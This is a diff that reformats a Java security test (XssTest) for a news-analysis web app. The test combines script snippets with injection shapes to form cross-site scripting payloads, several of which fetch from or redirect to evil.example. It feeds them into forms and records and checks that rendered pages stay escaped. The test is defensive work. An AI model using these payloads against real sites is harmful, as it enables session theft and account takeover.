@@ -22,17 +22,39 @@ import org.readout.model.*;
  */
 class XssTest {
     private static final List<String> RUNS = List.of(
-            "alert(1)", "alert`1`", "fetch('//evil.example')", "eval(name)", "top.x=1", "import('//e.example')",
-            "location='//evil.example'", "document.title='x'", "prompt()", "confirm`x`");
+            "alert(1)",
+            "alert`1`",
+            "fetch('//evil.example')",
+            "eval(name)",
+            "top.x=1",
+            "import('//e.example')",
+            "location='//evil.example'",
+            "document.title='x'",
+            "prompt()",
+            "confirm`x`");
     private static final List<String> SHAPES = List.of(
-            "<script>@</script>", "\"><script>@</script>", "'><svg onload=@>", "</title><script>@</script>",
-            "</textarea><img src=x onerror=@>", "<img src=x onerror=\"@\">", "\" onmouseover=\"@", "' autofocus onfocus='@",
-            "javascript:@", "JaVaScRiPt:@", "java\tscript:@", "data:text/html,<script>@</script>",
-            "<iframe srcdoc=\"<script>@</script>\">", "<a href=javascript:@>x</a>", "<base href=//evil.example/>@",
-            "<form action=javascript:@><button>", "<style>@import '//evil.example';</style>@", "<svg><a xlink:href=javascript:@>",
-            "${@}${7*7}{{@}}", "--><!--<img src=x onerror=@>-->");
-    private static final Set<String> ADDRESSES =
-            Set.of("href", "src", "action", "formaction", "hx-get", "hx-post", "data", "xlink:href", "srcdoc", "poster");
+            "<script>@</script>",
+            "\"><script>@</script>",
+            "'><svg onload=@>",
+            "</title><script>@</script>",
+            "</textarea><img src=x onerror=@>",
+            "<img src=x onerror=\"@\">",
+            "\" onmouseover=\"@",
+            "' autofocus onfocus='@",
+            "javascript:@",
+            "JaVaScRiPt:@",
+            "java\tscript:@",
+            "data:text/html,<script>@</script>",
+            "<iframe srcdoc=\"<script>@</script>\">",
+            "<a href=javascript:@>x</a>",
+            "<base href=//evil.example/>@",
+            "<form action=javascript:@><button>",
+            "<style>@import '//evil.example';</style>@",
+            "<svg><a xlink:href=javascript:@>",
+            "${@}${7*7}{{@}}",
+            "--><!--<img src=x onerror=@>-->");
+    private static final Set<String> ADDRESSES = Set.of(
+            "href", "src", "action", "formaction", "hx-get", "hx-post", "data", "xlink:href", "srcdoc", "poster");
 
     private static List<String> payloads() {
         List<String> all = new ArrayList<>();
@@ -51,14 +73,28 @@ class XssTest {
         try (DemoDesk desk = new DemoDesk(hostile)) {
             Findings first = hostile.getFirst();
             for (String payload : payloads.subList(0, 40)) {
-                desk.ledger().decide(Decision.about(Decision.Action.REASSIGN, first.article().id(), FindingType.STATEMENT,
-                        new Span(0, 3), payload, payload, payload));
+                desk.ledger()
+                        .decide(Decision.about(
+                                Decision.Action.REASSIGN,
+                                first.article().id(),
+                                FindingType.STATEMENT,
+                                new Span(0, 3),
+                                payload,
+                                payload,
+                                payload));
                 desk.ledger().decide(Decision.merge(payload + "?", payload, payload + "!", payload));
             }
             Set<String> plain = elements(Jsoup.parse(desk.reader().get("/add").body()));
             List<String> paths = new ArrayList<>(List.of(
-                    "/", "/story", "/actors", "/sources?outlet=x", "/review", "/search?type=statement&size=1000",
-                    "/search?q=words&size=500", "/search?type=event&size=500", "/search?status=declined&size=500",
+                    "/",
+                    "/story",
+                    "/actors",
+                    "/sources?outlet=x",
+                    "/review",
+                    "/search?type=statement&size=1000",
+                    "/search?q=words&size=500",
+                    "/search?type=event&size=500",
+                    "/search?status=declined&size=500",
                     "/search?type=position&size=500"));
             for (int i = 0; i < payloads.size(); i++) {
                 String p = Browserless.encode(payloads.get(i));
@@ -84,8 +120,16 @@ class XssTest {
             assertThat(carrying).as("pages that show a payload, escaped").isGreaterThan(20);
             Browserless reader = desk.reader();
             for (String payload : payloads.subList(0, 60)) {
-                check("add " + payload, Jsoup.parse(reader.post("/add", "text", "", "headline", payload).body()), plain);
-                check("decide " + payload, Jsoup.parse(reader.post("/decide", "action", payload, "article", payload).body()), plain);
+                check(
+                        "add " + payload,
+                        Jsoup.parse(reader.post("/add", "text", "", "headline", payload)
+                                .body()),
+                        plain);
+                check(
+                        "decide " + payload,
+                        Jsoup.parse(reader.post("/decide", "action", payload, "article", payload)
+                                .body()),
+                        plain);
             }
         }
     }
@@ -122,24 +166,108 @@ class XssTest {
         Hedge hedge = new Hedge(who, payload);
         Place place = new Place(payload, who, payload, payload);
         Time time = new Time(who, payload, Time.Type.DATE, payload, "2025-06-01", null, payload, null);
-        Statement said = new Statement("s1", new Statement.Source(mention, Statement.Anonymity.NAMED), List.of(who), List.of(sentence),
-                Statement.Kind.DIRECT, mention, payload, time, hedge, null, evidence, why);
-        Event event = new Event("e1", EventType.AGREE, payload, List.of(payload), payload, List.of(mention), List.of(ukraine),
-                List.of(who), Factuality.HAPPENED, time, place, "s1", "g1", evidence, why);
-        Gathering gathering = new Gathering("g1", payload, Gathering.Kind.TALKS, Gathering.State.PLANNED, time, place,
-                List.of(mention), List.of(ukraine), evidence, why);
-        Attendance attendance = new Attendance("a1", mention, "g1", Attendance.Status.DECLINED, "s1", mention,
-                article.date(), hedge, evidence, why);
-        Position position = new Position("p1", mention, payload, Position.Stance.DEMANDS, List.of(sentence), ukraine, time,
-                "s1", null, evidence, why);
-        return new Findings(article, List.of(new Span(0, flat.length()), sentence), List.of(said), List.of(event),
-                List.of(gathering), List.of(attendance), List.of(position), List.of(time), List.of(), List.of());
+        Statement said = new Statement(
+                "s1",
+                new Statement.Source(mention, Statement.Anonymity.NAMED),
+                List.of(who),
+                List.of(sentence),
+                Statement.Kind.DIRECT,
+                mention,
+                payload,
+                time,
+                hedge,
+                null,
+                evidence,
+                why);
+        Event event = new Event(
+                "e1",
+                EventType.AGREE,
+                payload,
+                List.of(payload),
+                payload,
+                List.of(mention),
+                List.of(ukraine),
+                List.of(who),
+                Factuality.HAPPENED,
+                time,
+                place,
+                "s1",
+                "g1",
+                evidence,
+                why);
+        Gathering gathering = new Gathering(
+                "g1",
+                payload,
+                Gathering.Kind.TALKS,
+                Gathering.State.PLANNED,
+                time,
+                place,
+                List.of(mention),
+                List.of(ukraine),
+                evidence,
+                why);
+        Attendance attendance = new Attendance(
+                "a1", mention, "g1", Attendance.Status.DECLINED, "s1", mention, article.date(), hedge, evidence, why);
+        Position position = new Position(
+                "p1",
+                mention,
+                payload,
+                Position.Stance.DEMANDS,
+                List.of(sentence),
+                ukraine,
+                time,
+                "s1",
+                null,
+                evidence,
+                why);
+        return new Findings(
+                article,
+                List.of(new Span(0, flat.length()), sentence),
+                List.of(said),
+                List.of(event),
+                List.of(gathering),
+                List.of(attendance),
+                List.of(position),
+                List.of(time),
+                List.of(),
+                List.of());
     }
 
     private static Set<String> elements(Document page) {
-        Set<String> names = new TreeSet<>(Set.of("article", "blockquote", "figure", "figcaption", "time", "table", "thead", "tbody",
-                "tr", "th", "td", "details", "summary", "section", "header", "ol", "ul", "li", "dl", "dt", "dd", "div", "h2", "h3", "h4",
-                "code", "del", "meter", "output", "select", "option", "br", "b"));
+        Set<String> names = new TreeSet<>(Set.of(
+                "article",
+                "blockquote",
+                "figure",
+                "figcaption",
+                "time",
+                "table",
+                "thead",
+                "tbody",
+                "tr",
+                "th",
+                "td",
+                "details",
+                "summary",
+                "section",
+                "header",
+                "ol",
+                "ul",
+                "li",
+                "dl",
+                "dt",
+                "dd",
+                "div",
+                "h2",
+                "h3",
+                "h4",
+                "code",
+                "del",
+                "meter",
+                "output",
+                "select",
+                "option",
+                "br",
+                "b"));
         page.getAllElements().forEach(e -> names.add(e.normalName()));
         return names;
     }
@@ -153,9 +281,14 @@ class XssTest {
             }
             for (Attribute a : e.attributes()) {
                 String name = a.getKey().toLowerCase(Locale.ROOT);
-                assertThat(name).as("%s: <%s %s>", path, e.normalName(), name).doesNotStartWith("on").isNotEqualTo("style");
+                assertThat(name)
+                        .as("%s: <%s %s>", path, e.normalName(), name)
+                        .doesNotStartWith("on")
+                        .isNotEqualTo("style");
                 if (ADDRESSES.contains(name)) {
-                    assertThat(a.getValue()).as("%s: <%s %s>", path, e.normalName(), name).matches("[/#][^/].*|/|");
+                    assertThat(a.getValue())
+                            .as("%s: <%s %s>", path, e.normalName(), name)
+                            .matches("[/#][^/].*|/|");
                 }
             }
         }
